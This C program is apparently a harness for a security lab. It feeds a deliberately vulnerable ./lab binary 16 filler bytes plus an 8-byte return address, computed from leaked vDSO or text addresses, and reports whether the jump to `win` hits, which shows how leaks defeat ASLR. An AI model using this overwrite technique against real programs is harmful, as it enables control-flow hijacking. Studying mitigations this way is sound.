/* SPDX-License-Identifier: Apache-2.0 WITH LLVM-exception OR Apache-2.0 OR MIT
 * Breaks into ./lab with what one is supposed to know, and says `hit` or `miss`.
 *
 *     guess LAB previous    knows where `win` was in an earlier run
 *     guess LAB vdso        knows `win - vDSO` of an earlier run, and where the vDSO is now (a leak)
 *     guess LAB text        knows `win - hello` of an earlier run, and where `hello` is now (a leak) */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

struct run {
	pid_t pid;
	FILE *to, *from;
};

static void fail(const char *what)
{
	perror(what);
	exit(2);
}

static struct run start(const char *lab, const char *what)
{
	int in[2], out[2];
	if (pipe(in) || pipe(out))
		fail("pipe");
	struct run run = {.pid = fork()};
	if (run.pid < 0)
		fail("fork");
	if (run.pid == 0) {
		dup2(in[0], 0);
		dup2(out[1], 1);
		close(in[1]);
		close(out[0]);
		execl(lab, lab, what, (char *)0);
		fail(lab);
	}
	close(in[0]);
	close(out[1]);
	run.to = fdopen(in[1], "w");
	run.from = fdopen(out[0], "r");
	return run;
}

/* The address in the next line, which begins with `name`. */
static unsigned long told(struct run *run, const char *name)
{
	char word[32];
	unsigned long value;
	if (fscanf(run->from, "%31s %lx", word, &value) != 2 || strcmp(word, name) != 0) {
		fprintf(stderr, "guess: no line `%s 0x…`\n", name);
		exit(2);
	}
	return value;
}

static int finish(struct run *run)
{
	int status;
	fclose(run->to);
	while (fgetc(run->from) != EOF)
		;
	fclose(run->from);
	if (waitpid(run->pid, &status, 0) != run->pid)
		fail("waitpid");
	return status;
}

int main(int argc, char **argv)
{
	if (argc != 3) {
		fprintf(stderr, "guess LAB previous|vdso|text\n");
		return 2;
	}
	const char *lab = argv[1], *knows = argv[2];

	/* What an earlier run told. */
	struct run run = start(lab, "addresses");
	unsigned long vdso = told(&run, "vdso"), hello = told(&run, "hello"), win = told(&run, "win");
	finish(&run);

	/* The run that is broken into, and what it leaks. */
	run = start(lab, "overflow");
	unsigned long vdso_now = told(&run, "vdso"), hello_now = told(&run, "hello");
	unsigned long guess = win;
	if (strcmp(knows, "vdso") == 0)
		guess = vdso_now + (win - vdso);
	else if (strcmp(knows, "text") == 0)
		guess = hello_now + (win - hello);
	else if (strcmp(knows, "previous") != 0)
		return 2;

	/* Sixteen bytes that fit, and eight that do not. */
	for (int i = 0; i < 16; i++)
		fprintf(run.to, "41");
	for (int i = 0; i < 8; i++)
		fprintf(run.to, "%02lx", guess >> (8 * i) & 255);
	fprintf(run.to, "\n");
	fflush(run.to);

	int status = finish(&run);
	if (WIFEXITED(status) && WEXITSTATUS(status) == 42) {
		puts("hit");
		return 0;
	}
	if (WIFSIGNALED(status)) {
		puts("miss");
		return 1;
	}
	fprintf(stderr, "guess: %s: neither hit nor crash: status %#x\n", lab, status);
	return 2;
}
